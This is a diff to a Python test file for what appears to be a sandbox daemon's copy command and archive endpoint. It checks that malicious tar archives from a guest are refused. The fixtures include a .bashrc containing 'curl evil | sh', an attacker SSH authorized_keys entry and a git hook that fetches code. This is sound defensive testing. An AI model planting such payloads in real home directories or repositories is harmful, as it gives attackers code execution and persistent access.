@@ -80,7 +80,7 @@ def test_cp_refuses_members_that_climb_out(rt, fork, tmp_path):
     assert (tmp_path / "naive" / "escaped.txt").exists()  # the attack works on a naive extraction
     (tmp_path / "dest").mkdir()
     with pytest.raises(InvalidInput, match=r"climbs out"):
-        copy(LocalBackend(Control(rt)), f"{c.id}:/root/anything", str(tmp_path / "dest"))
+        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"))
     assert not (tmp_path / "escaped.txt").exists() and not list((tmp_path / "dest").rglob("escaped.txt"))
 
 
@@ -90,7 +90,7 @@ def test_cp_refuses_absolute_member_names(rt, fork, tmp_path):
     craft(rt, c.id, [("top", "dir", None), (str(target), "file", "pwned")])
     (tmp_path / "dest").mkdir()
     with pytest.raises(InvalidInput, match="absolute"):
-        copy(LocalBackend(Control(rt)), f"{c.id}:/root/x", str(tmp_path / "dest"))
+        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"))
     assert not target.exists()
 
 
@@ -108,14 +108,61 @@ def test_cp_never_writes_through_a_symlink(rt, fork, tmp_path):
     (victim_dir / "pwned.txt").unlink()
     (tmp_path / "dest").mkdir()
     with pytest.raises(InvalidInput, match="refusing to write through it"):
-        copy(LocalBackend(Control(rt)), f"{c.id}:/root/x", str(tmp_path / "dest"))
+        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"))
     assert list(victim_dir.iterdir()) == []
     craft(rt, c.id, [("top", "dir", None), ("top/f", "sym", str(victim_file)), ("top/f", "file", "new")])
     (tmp_path / "dest2").mkdir()
-    copy(LocalBackend(Control(rt)), f"{c.id}:/root/x", str(tmp_path / "dest2"))
+    copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest2"))
     assert victim_file.read_text() == "original"
     out = tmp_path / "dest2" / "top" / "f"
     assert not out.is_symlink() and out.read_text() == "new"
+
+
+def test_cp_into_an_existing_directory_takes_only_the_entry_asked_for(rt, fork, tmp_path):
+    """`forkd cp ID:/root/result.txt DIR` where the guest answers with dotfiles beside the file: the copy fails, DIR
+    is unchanged (not even result.txt lands), and the tar on stdout (`-`) is refused before a byte is written."""
+    [c] = fork(1)
+    members = [("result.txt", "file", "answer"), (".bashrc", "file", "curl evil | sh"),
+               (".ssh/authorized_keys", "file", "ssh-ed25519 AAAA attacker"),
+               (".git/hooks/pre-commit", "file", "#!/bin/sh\ncurl evil")]
+    tar = craft(rt, c.id, members)
+    (tmp_path / "naive").mkdir()
+    naive(tar, tmp_path / "naive")
+    assert (tmp_path / "naive" / ".ssh" / "authorized_keys").exists()  # the attack works on a naive extraction
+    dest = tmp_path / "home"
+    (dest / ".git" / "hooks").mkdir(parents=True)
+    (dest / ".bashrc").write_text("mine")
+    before = sorted((str(p.relative_to(dest)), p.is_dir() or p.read_bytes()) for p in dest.rglob("*"))
+    be = LocalBackend(Control(rt))
+    with pytest.raises(InvalidInput, match="not beneath 'result.txt'"):
+        copy(be, f"{c.id}:/root/result.txt", str(dest))
+    assert sorted((str(p.relative_to(dest)), p.is_dir() or p.read_bytes()) for p in dest.rglob("*")) == before
+    out = io.BytesIO()
+    with pytest.raises(InvalidInput, match="not beneath"):
+        copy(be, f"{c.id}:/root/result.txt", "-", stdout=out)
+    assert out.getvalue() == b""
+
+
+def test_the_archive_route_passes_on_only_the_entry_asked_for(rt, fork):
+    """The daemon's GET .../files/archive: a first member outside the entry is a 400 naming it; one after an
+    honest first member ends the stream unfinished (no end-of-archive), never passing the outsider's bytes."""
+    from starlette.testclient import TestClient
+
+    from forkd.api.app import create_app
+
+    [c] = fork(1)
+    client = TestClient(create_app(Control(rt)))  # server errors raise here: a cut stream shows
+    craft(rt, c.id, [(".bashrc", "file", "pwned"), ("result.txt", "file", "ok")])
+    r = client.get(f"/v1/sandboxes/{c.id}/files/archive", params={"path": "/root/result.txt"})
+    assert r.status_code == 400 and ".bashrc" in r.text, r.text
+    craft(rt, c.id, [("result.txt", "file", "ok" * 40000), (".bashrc", "file", "PWNED" * 100)])
+    body = b""
+    with pytest.raises(RuntimeError, match="response already started") as cut, \
+            client.stream("GET", f"/v1/sandboxes/{c.id}/files/archive", params={"path": "/root/result.txt"}) as r:
+        for part in r.iter_bytes():
+            body += part
+    assert isinstance(cut.value.__cause__, InvalidInput) and ".bashrc" in str(cut.value.__cause__)
+    assert b"ok" * 1000 in body and b"PWNED" not in body
 
 
 def test_cp_stops_at_its_byte_limit(rt, fork, tmp_path):
@@ -123,9 +170,8 @@ def test_cp_stops_at_its_byte_limit(rt, fork, tmp_path):
     craft(rt, c.id, [("top", "dir", None), ("top/big", "zeros", 3 << 20)])
     (tmp_path / "dest").mkdir()
     with pytest.raises(InvalidInput, match="over 1048576 bytes"):
-        copy(LocalBackend(Control(rt)), f"{c.id}:/root/x", str(tmp_path / "dest"), max_bytes=1 << 20)
-    big = tmp_path / "dest" / "top" / "big"
-    assert not big.exists() or big.stat().st_size <= (2 << 20)
+        copy(LocalBackend(Control(rt)), f"{c.id}:/root/top", str(tmp_path / "dest"), max_bytes=1 << 20)
+    assert list((tmp_path / "dest").iterdir()) == []  # nothing half-written
 
 
 def _violates(rt, fork, code: str, call) -> ProtocolViolation:
